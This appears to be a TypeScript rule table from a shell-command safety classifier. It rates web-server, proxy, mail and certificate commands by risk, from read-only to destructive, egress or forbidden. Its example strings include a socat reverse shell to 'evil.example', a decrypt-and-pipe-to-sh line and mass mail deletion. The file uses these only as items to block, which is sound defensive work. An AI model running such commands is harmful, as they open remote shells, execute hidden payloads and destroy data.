/** Argument table: web servers, proxies, mail servers, certificates. */
import { reachServer } from '../private-hosts.ts';
import type { Call, Table } from '../table.ts';

export const servers = (): Table => ({
  'nginx openresty tengine': {
    does: 'starts a web server',
    level: 'destructive',
    options: '-q',
    modes: { '-t -T -v -V -h -?': 'read_only' },
    effects: {
      '-c:': {
        does: 'takes settings, and programs to load, from another file',
        level: 'destructive',
        unless: /^\/(?:etc|usr\/local)\/(?!.*\.\.)[\w./-]+$/,
      },
      '-p: -e:': { does: 'works in another folder, or writes another log', level: 'destructive' },
      '-g:': { does: 'adds settings', level: 'destructive' },
      '-s:': { does: 'signals the web server', level: 'modifying' },
    },
    operands: 'text',
    check: (call) => {
      for (const { name, value } of call.options)
        if (name === '-s' && !(value?.literal && /^(?:reload|reopen)$/.test(value.text)))
          call.raise('stop', 'stops the web server', 'destructive');
    },
    examples: {
      'nginx -t': 'read_only',
      'nginx -T': 'read_only',
      'nginx -V': 'read_only',
      'nginx -t -s reload': 'modifying',
      'nginx -s stop': 'destructive',
      nginx: 'destructive',
      "nginx -t -g 'load_module x;'": 'destructive',
      'nginx -t -c /etc/nginx/nginx.conf': 'read_only',
      'nginx -t -c ./x': 'destructive',
      'nginx -t -e x': 'destructive',
      'nginx -s reload -s stop': 'destructive',
    },
  },
  'apachectl apache2ctl httpd apache2': {
    does: 'asks a web server',
    level: 'read_only',
    options: '',
    modes: { '-t -S -M -l -L -v -V -h': 'read_only' },
    effects: {
      '-f:': {
        does: 'takes settings, and programs to load, from another file',
        level: 'destructive',
        unless: /^\/(?:etc|usr\/local)\/(?!.*\.\.)[\w./-]+$/,
      },
      '-e: -d:': { does: 'works in another folder, or in another way', level: 'destructive' },
      '-D:': { does: 'defines a setting', level: 'read_only' },
      '-k:': { does: 'signals the web server', level: 'modifying' },
      '-X -c: -C: -E:': { does: 'runs in another way', level: 'destructive' },
    },
    operands: 'text',
    ordered: true,
    check: judgeApache,
    examples: {
      'apachectl -t': 'read_only',
      'apachectl configtest': 'read_only',
      'httpd -S': 'read_only',
      'apachectl graceful': 'destructive',
      'httpd -t -k graceful': 'modifying',
      'apachectl fullstatus': 'read_only',
      'apachectl stop': 'destructive',
      'httpd -t -D DUMP_VHOSTS': 'read_only',
      'apachectl -t -C x': 'destructive',
      'apachectl -t -f ./x': 'destructive',
      'httpd -t -f /etc/httpd/conf/httpd.conf': 'read_only',
      'httpd -t -d /tmp/x': 'destructive',
      'apachectl -k stop': 'destructive',
    },
  },
  haproxy: {
    does: 'starts a proxy',
    level: 'destructive',
    options: '-q -V',
    modes: { '-c -v -vv': 'read_only' },
    effects: {
      '-f:': {
        does: 'takes settings, and programs to load, from another file',
        level: 'destructive',
        unless: /^\/(?:etc|usr\/local)\/(?!.*\.\.)[\w./-]+$/,
      },
      '-D -W -Ws -sf -st -x: -db -d -S: -p:': { does: 'starts or replaces the proxy', level: 'destructive' },
    },
    operands: 'text',
    examples: {
      'haproxy -c -f /etc/haproxy/haproxy.cfg': 'read_only',
      'haproxy -vv': 'read_only',
      'haproxy -c -f ./x': 'destructive',
      'haproxy -D -f x': 'destructive',
    },
  },
  caddy: {
    does: 'runs a web server',
    level: 'destructive',
    options: '--config= --adapter= --pretty -c: -a:',
    subcommands: {
      'validate adapt version list-modules build-info': {
        does: 'checks the settings',
        level: 'read_only',
        operands: 'reads',
        examples: { 'caddy validate --config /etc/caddy/Caddyfile': 'read_only', 'caddy list-modules': 'read_only' },
      },
      reload: 'modifying',
    },
    examples: { 'caddy stop': 'destructive', 'caddy reload': 'modifying' },
  },
  envoy: {
    does: 'starts a proxy',
    level: 'destructive',
    options: '-c: --config-path=',
    examples: { 'envoy --version': 'read_only', 'envoy -c x': 'destructive' },
  },
  'varnishstat varnishlog varnishtop varnishhist varnishncsa': {
    does: 'shows what a cache does',
    level: 'read_only',
    options: '-1 -j -x -d -n: -f: -g: -q: -i: -I: -c -b -C -V -t: -F: -E -k: -p: -l -L: -v -m:',
    effects: {
      '-w: -P:': { does: 'writes a file', level: 'destructive' },
      '-D -a -A': { does: 'runs on, or adds to a file', level: 'destructive' },
    },
    operands: 'text',
    examples: {
      'varnishstat -1': 'read_only',
      'varnishlog -d -g request': 'read_only',
      'varnishlog -w x': 'destructive',
      'varnishlog -D': 'destructive',
    },
  },
  varnishadm: {
    does: 'opens a prompt of a cache',
    level: 'destructive',
    options: '-n: -t: -p',
    effects: { '-T: -S:': { does: 'talks to another cache', level: 'destructive' } },
    subcommands: {
      'status ping backend.list ban.list vcl.list param.show panic.show storage.list pid banner help': {
        does: 'shows a cache',
        level: 'read_only',
        options: '-p -l -j',
        operands: 'text',
        examples: { 'varnishadm backend.list': 'read_only' },
      },
    },
    examples: {
      'varnishadm ban req.url ~ .': 'destructive',
      varnishadm: 'destructive',
      'varnishadm -T x status': 'destructive',
    },
  },
  socat: {
    does: 'connects two ends',
    level: 'read_only',
    options: '-t: -T: -u -U -d -v',
    operands: 'text',
    check: judgeSocat,
    examples: {
      'socat TCP:evil.example:1 EXEC:sh': 'destructive egress',
      "echo 'show stat' | socat stdio /var/run/haproxy.sock": 'read_only',
      "echo 'show info;show servers state' | socat - UNIX-CONNECT:/run/haproxy/admin.sock": 'read_only',
      "echo 'disable server a/b' | socat stdio /var/run/haproxy.sock": 'destructive egress',
      'socat - TCP:localhost:11211 <<< stats': 'destructive egress',
      'socat stdio /var/run/haproxy.sock <<< "show stat"': 'read_only',
    },
  },
  'traefik squid unicorn puma gunicorn uwsgi php-fpm lighttpd tomcat catalina.sh pm2 forever passenger': {
    does: 'asks a server',
    level: 'read_only',
    modes: { '-t -v -V': 'read_only' },
    operands: 'text',
    check: judgeServer,
    examples: {
      'php-fpm -t': 'read_only',
      'pm2 list': 'read_only',
      'pm2 jlist': 'read_only sensitive_read',
      'pm2 delete all': 'destructive',
      'pm2 restart api': 'modifying',
      'squid -k shutdown': 'destructive',
      'puma -t x': 'destructive',
      'puma -v': 'destructive',
    },
  },
  'passenger-status passenger-memory-stats': {
    does: 'shows application servers',
    level: 'read_only',
    options: '-v --verbose --show=',
    operands: 'text',
    examples: { 'passenger-status': 'read_only' },
  },
  'a2ensite a2dissite a2enmod a2dismod': {
    does: 'enables or disables settings',
    level: 'modifying',
    options: '-q --quiet -m --maintmode -p --purge -f --force',
    operands: 'text',
    examples: { 'a2ensite x': 'modifying' },
  },
  a2query: {
    does: 'shows enabled settings',
    level: 'read_only',
    options: '-q -h -m? -s? -c? -a -v -M -d',
    operands: 'text',
    examples: { 'a2query -s': 'read_only' },
  },
  sshd: {
    does: 'starts a server for log-ins',
    level: 'destructive',
    options: '-q -4 -6 -C:',
    modes: { '-t -T -V -G': 'read_only' },
    effects: {
      '-f:': {
        does: 'takes settings from another file',
        level: 'destructive',
        unless: /^\/etc\/ssh\/(?!.*\.\.)[\w./-]+$/,
      },
      '-o: -h: -c: -E: -g: -u: -p: -D -d -e -i -b: -k:': { does: 'starts in another way', level: 'destructive' },
    },
    operands: { rest: 'text', level: 'destructive' },
    examples: {
      'sshd -t': 'read_only',
      'sshd -T': 'read_only',
      'sshd -t -f x': 'destructive',
      sshd: 'destructive',
      'sshd -T -k x': 'destructive',
    },
  },
  'named-checkconf unbound-checkconf': {
    does: 'checks settings of a name server',
    level: 'read_only',
    options: '-h -v -j -l -c -i -z -x -f -q',
    effects: {
      '-p': { does: 'shows settings with their keys', flag: 'sensitive_read' },
      '-t: -o:': { does: 'works in another root', level: 'destructive' },
    },
    operands: 'reads',
    check: (call) => {
      // A configuration may name plugins, which the check loads.
      for (const word of call.operands)
        if (!word.literal || !/^\/(?:etc|usr\/local\/etc|var\/named\/chroot)\/(?!.*\.\.)[\w./-]+$/.test(word.text))
          call.raise('file', 'may load programs that the file names', 'destructive', null, word);
    },
    examples: {
      'named-checkconf -z': 'read_only',
      'named-checkconf /etc/bind/named.conf': 'read_only',
      'named-checkconf -p': 'read_only sensitive_read',
      'named-checkconf ./x': 'destructive',
      'unbound-checkconf -o x': 'destructive',
    },
  },
  rndc: {
    does: 'controls a name server',
    level: 'destructive',
    options: '-q -V -r -4 -6',
    effects: { '-s: -p: -k: -c: -y: -b:': { does: 'talks to another server', level: 'destructive' } },
    subcommands: { 'status zonestatus': 'read_only', 'reload reconfig refresh notify': 'modifying' },
    examples: {
      'rndc status': 'read_only',
      'rndc flush': 'destructive',
      'rndc -s x status': 'destructive',
      'rndc reload': 'modifying',
      'rndc -b x status': 'destructive',
    },
  },
  'unbound-control': {
    does: 'controls a name server',
    level: 'destructive',
    options: '-q',
    effects: { '-s: -c:': { does: 'talks to another server', level: 'destructive' } },
    subcommands: {
      'status stats_noreset list_stubs list_forwards list_local_zones list_local_data list_insecure list_auth_zones lookup get_option dump_infra dump_requestlist':
        'read_only',
      'stats reload reload_keep_cache log_reopen': 'modifying',
    },
    examples: {
      'unbound-control status': 'read_only',
      'unbound-control flush x': 'destructive',
      'unbound-control -c x status': 'destructive',
      'unbound-control stats': 'modifying',
    },
  },
  'htpasswd htdigest dovecot doveadm opendkim': {
    does: 'changes accounts or mail',
    level: 'destructive',
    operands: 'names',
    examples: { 'htpasswd -b f u p': 'destructive', 'doveadm expunge -A ALL': 'destructive' },
  },
  mailq: {
    does: 'shows the mail queue',
    level: 'read_only',
    options: '-v -Ac',
    operands: { rest: 'text', level: 'destructive', does: 'hands words to the mail server' },
    examples: { mailq: 'read_only', 'mailq -q': 'destructive', 'mailq -C x': 'destructive', 'mailq x': 'destructive' },
  },
  qshape: {
    does: 'shows the mail queue',
    level: 'read_only',
    options: '-s -p -l -m: -b: -t: -w: -N: -n: -c:',
    complete: true,
    operands: 'reads',
    examples: { 'qshape deferred': 'read_only' },
  },
  'exiqsumm exigrep exiqgrep qmail-qstat': {
    does: 'shows the mail queue',
    level: 'read_only',
    options: '-a -c -f: -r: -s: -y: -o: -z -x -l -i -b -R -h -I -v -t: -M',
    effects: { '-C: -E: -G:': { does: 'works with other settings', level: 'destructive' } },
    operands: 'reads',
    examples: {
      'exiqgrep -f x -c': 'read_only',
      'exiqgrep -C x': 'destructive',
      'exiqgrep -E x': 'destructive',
      'exiqgrep -G x': 'destructive',
      'exigrep x /var/log/exim4/mainlog': 'read_only',
    },
  },
  postqueue: {
    does: 'shows or flushes the mail queue',
    level: 'destructive',
    options: '-v -c:',
    modes: { '-p -j': 'read_only', '-f -i: -s:': 'modifying' },
    examples: { 'postqueue -p': 'read_only', 'postqueue -f': 'modifying' },
  },
  postcat: {
    does: 'shows a mail',
    level: 'read_only',
    flag: 'sensitive_read',
    options: '-q -h -e -b -v',
    operands: 'reads',
    examples: { 'postcat -q 3F2A': 'read_only sensitive_read' },
  },
  postconf: {
    does: "shows the mail server's settings",
    level: 'read_only',
    options: '-n -d -h -m -l -a -A -f -x -P -M -F -H -p -o: -c: -t -T: -C:',
    effects: { '-e -X -# -K': { does: 'changes settings', level: 'destructive' } },
    operands: 'text',
    check: (call) => {
      if (call.operands.some((word) => !word.literal || word.text.includes('=')))
        call.raise('set', 'changes settings', 'destructive');
    },
    examples: {
      'postconf -n': 'read_only',
      'postconf mynetworks': 'read_only',
      'postconf -e a=b': 'destructive',
      'postconf a=b': 'destructive',
    },
  },
  postfix: {
    does: 'controls the mail server',
    level: 'destructive',
    options: '-v',
    subcommands: { status: 'read_only', 'check reload flush start': 'modifying' },
    examples: { 'postfix status': 'read_only', 'postfix stop': 'destructive', 'postfix reload': 'modifying' },
  },
  'postsuper postmap postalias newaliases postdrop': {
    does: 'changes the mail queue or its maps',
    level: 'destructive',
    options: '-v',
    modes: { '-q:': 'read_only' },
    operands: 'reads',
    effects: { '-d: -h: -H: -r: -s -p': { does: 'deletes, holds or requeues mail', level: 'destructive' } },
    check: (call) => {
      if (!/^post(?:map|alias)$/.test(call.rule) && call.options.some((option) => option.known?.mode))
        call.raise('mode', 'is not known to ask only', 'destructive');
    },
    examples: {
      'postsuper -d ALL': 'destructive',
      'postmap -q x hash:/etc/postfix/virtual': 'read_only',
      'postmap /etc/postfix/virtual': 'destructive',
      'newaliases -q x': 'destructive',
    },
  },
  'exim exim4': {
    does: 'runs a mail server',
    level: 'destructive',
    style: 'word',
    modes: { '-bp -bpc -bpu -bpr -bV -bt -Mvh: -Mvl:': 'read_only', '-qf -q': 'modifying', '-bP': 'read_only' },
    effects: { '-Mvb: -Mvc:': { does: 'shows a mail', flag: 'sensitive_read' } },
    operands: 'text',
    examples: {
      'exim -bpc': 'read_only',
      'exim -bp': 'read_only',
      'exim -Mrm 1': 'destructive',
      'exim -bp -Mvb 1': 'read_only sensitive_read',
      'exim -qf': 'modifying',
    },
  },
  openssl: {
    does: 'opens a prompt',
    level: 'destructive',
    style: 'word',
    subcommands: {
      version: 'read_only',
      ciphers: {
        does: 'lists ciphers',
        level: 'read_only',
        options: '-v -V -s -tls1_2 -tls1_3 -stdname',
        operands: 'text',
        examples: { 'openssl ciphers -v': 'read_only', 'openssl version': 'read_only' },
      },
      'x509 req crl crl2pkcs7': {
        does: 'shows a certificate',
        level: 'read_only',
        options:
          '-noout -text -subject -issuer -dates -enddate -startdate -fingerprint -serial -pubkey -modulus -hash -purpose -sha1 -sha256 -inform: -checkend: -checkhost: -checkip: -nameopt: -certopt: -ext: -email -ocsp_uri -ocspid -alias -subject_hash -issuer_hash -verify -nextupdate -lastupdate -outform: -dateopt: -crlnumber -nodes',
        effects: {
          '-in: -CAfile: -certfile:': { value: 'reads' },
          '-out: -keyout:': { value: 'overwrites' },
          '-signkey: -CA: -CAkey: -key: -new -newkey: -x509 -CAcreateserial -req -set_serial: -days: -config: -extfile: -engine: -provider: -rand: -writerand: -gendelta: -CAserial: -addtrust: -addreject: -passin: -force_pubkey: -x509toreq':
            { does: 'makes or signs certificates', level: 'destructive' },
        },
        examples: {
          'openssl x509 -in cert.pem -noout -dates': 'read_only',
          'openssl x509 -noout -text -in /etc/ssl/certs/x.crt': 'read_only',
          'openssl x509 -in cert.pem -out other.pem': 'destructive',
          'openssl x509 -in a -signkey b': 'destructive',
          'openssl req -in x.csr -noout -text': 'read_only',
        },
      },
      verify: {
        does: 'verifies a certificate',
        level: 'read_only',
        options:
          '-verbose -show_chain -purpose: -partial_chain -crl_check -x509_strict -verify_hostname: -no-CAfile -no-CApath',
        effects: { '-CAfile: -untrusted: -CApath: -CRLfile: -trusted:': { value: 'reads' } },
        operands: 'reads',
        examples: { 'openssl verify -CAfile ca.pem cert.pem': 'read_only' },
      },
      s_client: {
        does: 'opens a TLS connection',
        level: 'read_only',
        options:
          '-connect: -host: -port: -showcerts -servername: -verify_hostname: -verify: -verify_return_error -brief -tls1 -tls1_1 -tls1_2 -tls1_3 -no_tls1 -alpn: -starttls: -status -prexit -quiet -ign_eof -crlf -cipher: -ciphersuites: -debug -msg -state -noservername -4 -6 -no_ign_eof -xmpphost: -name: -tlsextdebug -groups: -sigalgs: -curves: -partial_chain -nbio -reconnect -security_debug -legacy_renegotiation',
        effects: {
          '-proxy:': { value: 'host' },
          '-CAfile: -CApath: -cert: -certform: -key: -pass: -cert_chain:': { value: 'names' },
          '-keylogfile: -sess_out: -keymatexport: -writerand: -rand: -engine: -msgfile:': {
            does: 'writes files',
            level: 'destructive',
          },
        },
        operands: 'text',
        check: (call) => {
          for (const { name, value } of call.options) if (/^-(?:connect|host)$/.test(name)) reachServer(call, value);
          for (const word of call.operands) reachServer(call, word);
        },
        examples: {
          'openssl s_client -connect 10.0.0.1:443': 'read_only',
          'openssl s_client -connect localhost:443 -servername x.example': 'read_only',
          'openssl s_client -connect x.example:443': 'read_only egress',
          'openssl s_client -connect localhost:443 -keylogfile k': 'destructive',
          'echo | openssl s_client -connect 127.0.0.1:443 2>/dev/null | openssl x509 -noout -dates': 'read_only',
        },
      },
      'rsa pkey ec dsa pkcs12 pkcs8': {
        does: 'reads a private key',
        level: 'read_only',
        flag: 'sensitive_read',
        options:
          '-in: -noout -text -check -modulus -pubin -inform: -info -nokeys -nocerts -nodes -passin: -legacy -pubcheck -text_pub -clcerts -cacerts',
        effects: {
          '-out: -passout:': { does: 'writes a key', level: 'destructive' },
          '-export -engine: -inkey: -topk8 -provider: -writerand:': { does: 'makes a key store', level: 'destructive' },
          '-pubout': { does: 'shows the public half', level: 'read_only' },
        },
        examples: {
          'openssl rsa -in server.key -noout -check': 'read_only sensitive_read',
          'openssl rsa -in k -out k2': 'destructive sensitive_read',
          'openssl pkcs12 -export -in a': 'destructive sensitive_read',
          'openssl pkey -in k -pubout': 'read_only sensitive_read',
        },
      },
      'dgst sha256 sha1 md5 sha512': {
        does: 'computes a digest',
        level: 'read_only',
        options: '-sha256 -sha1 -md5 -sha512 -hex -r -binary -c',
        effects: {
          '-out: -sign: -prverify: -engine: -writerand: -rand: -provider: -hmac: -mac: -macopt: -passin: -signature: -verify:':
            { does: 'signs or writes', level: 'destructive' },
        },
        operands: 'reads',
        examples: { 'openssl dgst -sha256 f': 'read_only', 'openssl dgst -sign k -out s f': 'destructive' },
      },
      asn1parse: {
        does: 'shows a structure',
        level: 'read_only',
        options: '-i -inform: -dump -strparse: -offset: -length:',
        effects: {
          '-in:': { value: 'reads' },
          '-out:': { value: 'overwrites' },
          '-genstr: -genconf: -oid:': { does: 'makes a structure', level: 'destructive' },
        },
        examples: { 'openssl asn1parse -in x.pem': 'read_only', 'openssl asn1parse -genstr x': 'destructive' },
      },
      'enc base64 aes-256-cbc': {
        does: 'encrypts, decrypts or decodes',
        level: 'destructive',
        yields: 'decoded',
        operands: 'text',
        examples: {
          'openssl enc -d -base64 -in x': 'destructive',
          'openssl enc -d -aes-256-cbc -in x | sh': 'forbidden',
        },
      },
      rand: {
        does: 'makes random bytes',
        level: 'read_only',
        options: '-hex -base64',
        effects: { '-out:': { value: 'overwrites' } },
        operands: 'text',
        examples: { 'openssl rand -hex 16': 'read_only', 'openssl rand -out k 16': 'destructive' },
      },
      'speed list errstr': 'modifying',
    },
    examples: {
      'openssl genrsa -out k 2048': 'destructive',
      'openssl ca -revoke x': 'destructive',
      openssl: 'destructive',
    },
  },
  'certbot letsencrypt': {
    does: 'gets certificates',
    level: 'destructive',
    options: '-n --non-interactive -q --quiet --cert-name= -d:',
    effects: {
      '--config-dir= --work-dir= --logs-dir=': {
        does: 'makes other folders',
        level: 'modifying',
        unless: /^\/(?:etc|var\/(?:lib|log))\/letsencrypt\/?$/,
      },
    },
    subcommands: {
      'certificates show_account plugins': 'read_only',
      'renew certonly install enhance': {
        does: 'gets or renews certificates',
        level: 'modifying',
        flag: 'egress',
        options: '--dry-run --force-renewal --no-random-sleep-on-renew --nginx --apache --webroot -w:',
        effects: {
          '--pre-hook= --post-hook= --deploy-hook= --renew-hook= --manual-auth-hook= --manual-cleanup-hook=': {
            value: 'script',
            does: 'runs a command',
            level: 'destructive',
          },
        },
        operands: 'text',
        examples: {
          'certbot renew --dry-run': 'modifying egress',
          'certbot renew --post-hook "rm x"': 'destructive egress',
        },
      },
    },
    examples: {
      'certbot certificates': 'read_only',
      'certbot delete --cert-name x': 'destructive',
      'certbot revoke': 'destructive',
      'certbot certificates --logs-dir=x': 'modifying',
    },
  },
  keytool: {
    does: 'manages a key store',
    level: 'destructive',
    style: 'word',
    options: '-v -rfc -keystore: -storepass: -alias: -storetype: -file: -cacerts -J: -jarfile:',
    modes: { '-list -printcert': 'read_only' },
    effects: {
      '-sslserver:': { does: 'talks to a server', level: 'read_only' },
      '-delete -import -importcert -genkey -genkeypair -exportcert -export -importkeystore -storepasswd -keypasswd -changealias -certreq -gencert -providerclass: -provider: -providerpath: -addprovider:':
        { does: 'changes a key store', level: 'destructive' },
    },
    operands: 'text',
    check: (call) => {
      for (const { name, value } of call.options) if (name === '-sslserver') reachServer(call, value);
    },
    examples: {
      'keytool -printcert -sslserver db:1': 'read_only',
      'keytool -list -v -keystore x.jks': 'read_only',
      'keytool -delete -alias a': 'destructive',
    },
  },
});

function judgeApache(call: Call): void {
  const [verb] = call.operands;
  for (const { name, value } of call.options)
    if (name === '-k' && !(value?.literal && /^(?:graceful|restart|start)$/.test(value.text)))
      call.raise('stop', 'stops the web server', 'destructive');
  if (verb === undefined) {
    if (!call.options.some((option) => option.known?.mode || option.name === '-k'))
      call.raise('start', 'starts a web server', 'destructive');
    return;
  }
  if (!verb.literal || !/^(?:configtest|status|fullstatus)$/.test(verb.text))
    call.raise('verb', `controls the web server: ${verb.text}`, 'destructive');
}

/** Which server's letter shows its version or tests its settings; for others it says more, or takes a number. */
const showing: Readonly<Record<string, RegExp>> = {
  '-t': /^(?:php-fpm|lighttpd)$/,
  '-v': /^(?:squid|unicorn|gunicorn|php-fpm|lighttpd|pm2|passenger)$/,
  '-V': /^(?:lighttpd|puma)$/,
};

function judgeServer(call: Call): void {
  const [verb] = call.operands;
  if (verb === undefined) {
    if (!call.options.some((option) => option.known?.mode && showing[option.name]?.test(call.rule)))
      call.raise('start', 'starts a server', 'destructive');
    return;
  }
  const looks =
    call.rule === 'pm2' && verb.literal && /^(?:list|ls|l|status|jlist|describe|show|info)$/.test(verb.text);
  const soft = call.rule === 'pm2' && verb.literal && /^(?:restart|reload|start)$/.test(verb.text);
  if (looks && /^(?:jlist|describe|show|info)$/.test(verb.text))
    call.raise('environment', 'shows the environment of programs', 'read_only', 'sensitive_read');
  if (!looks) call.raise('verb', `controls a server: ${verb.text}`, soft ? 'modifying' : 'destructive');
}

/** Only HAProxy's socket with commands that show is known; everything else connects anything with anything. */
function judgeSocat(call: Call): void {
  const ends = call.operands.map((word) => (word.literal ? word.text : '?'));
  const here = ends.filter((end) => /^(?:stdio|STDIO|-)$/.test(end)).length === 1;
  const socket = ends.some(
    (end) =>
      /^(?:(?:unix|UNIX)(?:-connect|-CONNECT|-client|-CLIENT)?:)?\/(?:var\/)?(?:run|lib)\/haproxy[\w./-]*$/.test(end) &&
      !end.includes('..'),
  );
  const text = call.input.kind === 'text' || call.input.kind === 'pipe' ? call.input.text : null;
  const shows =
    text?.literal === true &&
    text.text
      .split(/[;\n]+/)
      .every((line) =>
        /^\s*(?:show (?:info|stat|errors|sess|servers state|servers conn|backend|pools|table|map|acl|activity|threads|version|cli level|events|resolvers|peers|fd|libs|profiling|startup-logs|sess all|stat typed|tasks|schema json|ssl cert|ssl ocsp-response|trace)(?: [\w#./:*-]+)*)?\s*$/.test(
          line,
        ),
      );
  if (ends.length === 2 && here && socket && shows) return;
  call.raise('connects', 'connects to what it may change, or to another machine', 'destructive', 'egress');
}
